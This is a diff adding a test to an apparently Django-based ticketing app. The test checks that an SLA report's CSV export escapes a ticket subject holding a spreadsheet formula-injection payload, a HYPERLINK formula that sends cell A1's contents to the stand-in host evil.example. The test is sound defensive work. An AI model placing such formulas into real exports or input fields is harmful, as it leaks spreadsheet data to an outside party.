@@ -242,3 +242,21 @@ def test_escalation_policy_with_levels(api_client, lead):
     gap = {"name": "Gap", "levels": [{"level": 2}]}
     assert api_client.post(f"{API}/escalation-policies/", gap, format="json").status_code == 400
     assert not TicketEscalation.objects.exists()
+
+
+def test_the_report_csv_never_hands_a_spreadsheet_a_formula(api_client, customer, agent):
+    now = timezone.now()
+    make_ticket(
+        by=customer,
+        priority=Priority.URGENT,
+        subject='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        created_at=now - dt.timedelta(hours=2),
+    )
+    run_monitor(now=now)
+    api_client.force_authenticate(agent)
+    today = timezone.localdate()
+    params = f"start_date={today - dt.timedelta(days=1)}&end_date={today}&export=csv"
+    rows = list(
+        csv.reader(io.StringIO(api_client.get(f"{API}/sla-reports/?{params}").content.decode()))
+    )
+    assert rows[1][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
